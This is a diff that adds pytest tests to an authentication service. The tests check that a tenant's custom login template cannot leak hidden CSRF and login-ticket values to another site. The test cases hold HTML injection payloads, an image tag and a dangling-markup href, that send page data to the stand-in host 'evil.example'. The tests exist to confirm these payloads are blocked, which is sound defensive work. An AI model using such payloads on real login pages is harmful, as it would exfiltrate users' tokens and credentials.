@@ -287,6 +287,46 @@ def test_the_built_in_page_is_shown_when_the_stored_template_fails_at_render(htt
     assert 'id="username"' in page.body.decode()  # ours
 
 
+@pytest.mark.parametrize(
+    ("content", "shown"),
+    [
+        ("<img src='https://evil.example/?{{ form_fields }}'>", False),  # refused: the built-in page
+        ("<a href='https://evil.example/?", False),  # a quote left open to swallow the page
+        ('<img src="https://evil.example/?{{ form_fields|urlencode }}">', True),  # shown: the placeholder only
+    ],
+)
+def test_a_stored_template_never_gets_the_hidden_fields_values_outside_a_tag_of_their_own(
+    http, browser, client, user, content, shown
+):
+    """Written behind validation's back: a template never holds the hidden fields' values (CSRF
+    token, login ticket), only a placeholder that becomes them where it stands as a tag of its
+    own; one that puts it in an attribute is not shown (the built-in page is). Either way no URL
+    to elsewhere carries the values, and the person signs in."""
+    from chalicelib.store import templates as template_store
+
+    stored = tenant_store.get_tenant("acme", consistent=True)
+    assert template_store.save_template(stored, "login", LOGIN + content, 1, None) is not None
+    forget()
+    page = browser.follow(authorize(browser, client[0].client_id))
+    body = page.body.decode()
+    assert page.status_code == 200 and ('id="tenant-content"' in body) == shown
+    for name in ("csrf_token", "ticket"):
+        value = re.search(f'<input type="hidden" name="{name}" value="([^"]+)">', body).group(1)
+        assert len(value) >= 20 and all(value not in url for url in re.findall("evil\\.example[^\"']*", body))
+    assert ("evil.example" in body) == shown
+    assert browser.submit(page, "login", username="alice", password=PASSWORD).status_code == 302
+
+
+def test_the_tenants_page_gets_the_real_hidden_fields_in_place_of_the_placeholder(http, browser, key, client, user):
+    from chalicelib.templating.markup import FIELDS_PLACEHOLDER
+
+    assert call(http, "PUT", "/templates/login", key, {"source": OURS})[0].status_code == 200
+    page = browser.follow(authorize(browser, client[0].client_id))
+    body = page.body.decode()
+    assert 'id="ours"' in body and FIELDS_PLACEHOLDER not in body
+    assert re.search(r'<input type="hidden" name="ticket" value="[^"]{20,}">', body)
+
+
 def test_the_tenants_login_page_words_the_abuse_limits_as_the_built_in_page(http, key, client, user, clock):
     """The same attempts against the built-in and the tenant's page: the same statuses and
     messages, the back-off's "Try again in N minutes" included (tests/unit/test_limits.py)."""
